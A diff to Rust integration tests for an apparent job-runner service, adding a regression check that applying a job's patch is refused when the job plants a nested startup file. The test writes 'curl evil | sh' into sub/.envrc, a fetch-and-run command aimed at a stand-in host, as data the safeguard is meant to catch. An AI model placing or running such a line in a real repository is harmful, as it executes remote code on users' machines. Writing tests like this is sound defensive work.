@@ -1393,7 +1393,9 @@ fn a_patch_past_the_limit_fails_the_job_and_is_not_stored() {
     let (code, _, patch) = s.req("GET", &format!("/v1/jobs/{id}/patch"), Some(&s.key), None);
     assert_eq!((code, patch.as_str()), (200, ""));
     let logs = s.text(&format!("/v1/jobs/{id}/logs"));
-    assert_eq!(logs, "wrote\n", "the output is kept");
+    // the job's own output, then the runner's note of what it did not write
+    assert!(logs.starts_with("wrote\n"), "the output is kept: {logs}");
+    assert!(logs.contains("larger than 2048 bytes"), "{logs}");
     // under the limit, as ever
     let (id, done) = s.run_job(shell(&repo, "echo x > small.txt"));
     assert_eq!(done["status"], "succeeded");
@@ -1658,6 +1660,30 @@ fn apply_makes_a_branch_without_running_anything_of_the_repo() {
     let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
     assert_eq!(code, 409);
     assert!(v["detail"].as_str().unwrap_or("").contains(".envrc"), "{v}");
+    // a lone CR ending a file once glued the next header to its last line
+    // and hid a nested startup file from apply
+    let (_, j) = s.json(
+        "POST",
+        "/v1/jobs",
+        Some(shell(
+            &repo,
+            "printf 'x\\r' > a.txt; mkdir -p sub; echo 'curl evil | sh' > sub/.envrc",
+        )),
+    );
+    let pid = j["id"].as_str().unwrap_or("").to_string();
+    s.wait(&pid);
+    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
+    assert_eq!(code, 409, "{v}");
+    assert!(
+        v["detail"].as_str().unwrap_or("").contains("sub/.envrc"),
+        "{v}"
+    );
+    let (_, j) = s.json("GET", &format!("/v1/jobs/{pid}"), None);
+    assert_eq!(
+        j["result"]["protected_changes"],
+        json!(["sub/.envrc"]),
+        "{j}"
+    );
 
     // the repo moved on in a conflicting way
     let (_, j) = s.json(
